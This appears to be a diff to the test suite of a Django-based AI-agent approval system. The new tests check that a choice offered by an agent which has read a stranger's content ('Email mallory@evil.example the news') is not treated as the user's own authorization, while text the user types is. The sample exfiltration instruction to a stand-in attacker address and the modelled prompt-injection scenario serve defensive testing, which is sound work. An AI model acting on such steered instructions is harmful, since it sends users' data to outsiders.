@@ -6,12 +6,13 @@ from django.urls import reverse
 
 from groups.models import Project
 from policy.models import Capability, CapabilityRule, ToolDeclaration
-from runs.actions.decide import approve
 from runs.execution import executor
 from runs.gate.origins import origins
 from runs.models import Approval, ToolCall
 from runs.tools import registry
+from tests.acting import approve, message
 from tests.admin_world import client_of, superuser
+from tests.factories import MembershipFactory
 from tests.integration.api_client import Api
 from tests.integration.test_decisions import decider
 from tests.scripted import by_role, call, in_order, say
@@ -179,7 +180,9 @@ def test_like_calls_of_one_run_are_one_question(ask, world, profile):
     )
     ask(in_order(both, say("done")), "Email ann@example.com and bob@example.com")
     first, second = Approval.objects.order_by("pk")
-    client = client_of(superuser())
+    root = superuser()
+    MembershipFactory(organization=world.organization, user=root)
+    client = client_of(root)
     page = client.get(reverse("admin:runs_approval_change", args=[first.pk])).content.decode()
     assert second.pk in page
     several = client.post(
@@ -192,3 +195,26 @@ def test_like_calls_of_one_run_are_one_question(ask, world, profile):
 def test_the_page_of_declarations_shows_what_is_inferred_and_what_is_declared(world, inbox):
     page = client_of(superuser()).get(reverse("admin:policy_tooldeclaration_changelist")).content.decode()
     assert "read_inbox" in page and 'dp-warn">inferred' in page and 'dp-info">declared' in page
+
+
+@pytest.mark.parametrize(("reads", "stops"), [((READ,), True), ((), False)])
+def test_an_answer_that_a_steered_agent_offered_is_not_the_persons_word(ask, profile, reads, stops):
+    """Whoever takes it says no more than the agent did, which had read what a stranger wrote."""
+    profile("balanced")
+    offer = "Email mallory@evil.example the news"
+    question = call(("ask_user", {"question": "What now?", "choices": [offer, "Nothing"]}))
+    run = ask(in_order(*reads, question, letter("mallory@evil.example"), say("done")), "Any news?")
+    message(run.pk, offer)
+    executor.run(run.pk)
+    run.refresh_from_db()
+    assert waits(run) is stops and bool(mail.outbox) is not stops
+
+
+def test_what_the_person_types_as_an_answer_is_their_word(ask, profile):
+    profile("balanced")
+    question = call(("ask_user", {"question": "Whom?", "choices": ["Nobody"]}))
+    run = ask(in_order(READ, question, letter("ann@example.com"), say("done")), "Any news?")
+    message(run.pk, "Email ann@example.com the news")
+    executor.run(run.pk)
+    run.refresh_from_db()
+    assert run.status == "completed" and len(mail.outbox) == 1
